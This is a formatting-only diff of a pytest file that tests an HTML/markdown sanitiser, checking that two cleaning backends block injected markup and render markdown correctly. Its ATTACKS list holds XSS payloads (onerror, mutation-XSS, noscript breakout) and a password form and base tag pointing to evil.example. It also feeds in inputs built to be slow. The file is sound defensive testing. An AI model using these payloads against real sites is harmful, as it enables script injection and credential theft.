@@ -22,11 +22,11 @@ ATTACKS = [
     "<p style='position:fixed;top:0'>over</p>",
     "<form action='https://evil.example'><input name='password'></form>",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "<div id='main' class='btn' onclick='alert(1)'>look</div>",
     "```html\n<script>alert(1)</script>\n```",
     "`<img src=x onerror=alert(1)>`",
-    "[a](https://site.example/\"onmouseover=\"alert(1))",
+    '[a](https://site.example/"onmouseover="alert(1))',
     "<!--[if IE]><script>alert(1)</script><![endif]-->",
     "<base href='https://evil.example/'>",
 ]
@@ -57,30 +57,48 @@ def test_each_wall_holds_alone(attack):
 
 
 def test_the_walls_know_the_same_list():
-    page = "".join(f"<{tag}>x</{tag}>" for tag in sorted(markup.TAGS - {"br", "hr", "table", "thead", "tbody", "tr", "th", "td"})) + "<br><hr>"
-    assert {found.tag for found in parse(markup._nh3(page)).walk()} == {found.tag for found in parse(markup._bleach.clean(page)).walk()} == {
-        "document", *markup.TAGS} - {"table", "thead", "tbody", "tr", "th", "td"}
+    page = (
+        "".join(
+            f"<{tag}>x</{tag}>"
+            for tag in sorted(markup.TAGS - {"br", "hr", "table", "thead", "tbody", "tr", "th", "td"})
+        )
+        + "<br><hr>"
+    )
+    assert (
+        {found.tag for found in parse(markup._nh3(page)).walk()}
+        == {found.tag for found in parse(markup._bleach.clean(page)).walk()}
+        == {"document", *markup.TAGS} - {"table", "thead", "tbody", "tr", "th", "td"}
+    )
 
 
-@pytest.mark.parametrize("text, html", [
-    ("", ""),
-    (" \n ", ""),
-    ("Plain & simple < more", "<p>Plain &amp; simple &lt; more</p>"),
-    ("# Title", "<h3>Title</h3>"),
-    ("##### Small", "<h6>Small</h6>"),
-    ("*soft* **loud** ~~gone~~", "<p><em>soft</em> <strong>loud</strong> <s>gone</s></p>"),
-    ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
-    ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
-    ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
-    ("[site](https://site.example/?a=1&b=2)", '<p><a href="https://site.example/?a=1&amp;b=2">site</a></p>'),
-    ("```\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
-])
+@pytest.mark.parametrize(
+    "text, html",
+    [
+        ("", ""),
+        (" \n ", ""),
+        ("Plain & simple < more", "<p>Plain &amp; simple &lt; more</p>"),
+        ("# Title", "<h3>Title</h3>"),
+        ("##### Small", "<h6>Small</h6>"),
+        ("*soft* **loud** ~~gone~~", "<p><em>soft</em> <strong>loud</strong> <s>gone</s></p>"),
+        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
+        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
+        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
+        (
+            "[site](https://site.example/?a=1&b=2)",
+            '<p><a href="https://site.example/?a=1&amp;b=2">site</a></p>',
+        ),
+        ("```\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
+    ],
+)
 def test_markdown_becomes_html(text, html):
     assert markup.to_html(text) == html
 
 
 def test_a_table_stays_one():
-    assert [cell.text for cell in parse(markup.to_html("| a | b |\n| --- | --- |\n| 1 | 2 |")).all("td")] == ["1", "2"]
+    assert [cell.text for cell in parse(markup.to_html("| a | b |\n| --- | --- |\n| 1 | 2 |")).all("td")] == [
+        "1",
+        "2",
+    ]
 
 
 def test_text_shown_as_text_is_what_was_typed():
@@ -91,6 +109,8 @@ def test_rendering_is_capped():
     assert len(markup.to_html("x" * (markup.LONGEST + 500))) == markup.LONGEST + len("<p></p>")
 
 
-@pytest.mark.parametrize("text", ["[" * 20_000, "*a " * 15_000, "> " * 5_000 + "x", "`" * 30_000, "| a " * 10_000])
+@pytest.mark.parametrize(
+    "text", ["[" * 20_000, "*a " * 15_000, "> " * 5_000 + "x", "`" * 30_000, "| a " * 10_000]
+)
 def test_texts_made_to_be_slow_come_back(text):
     assert isinstance(markup.to_html(text), str)
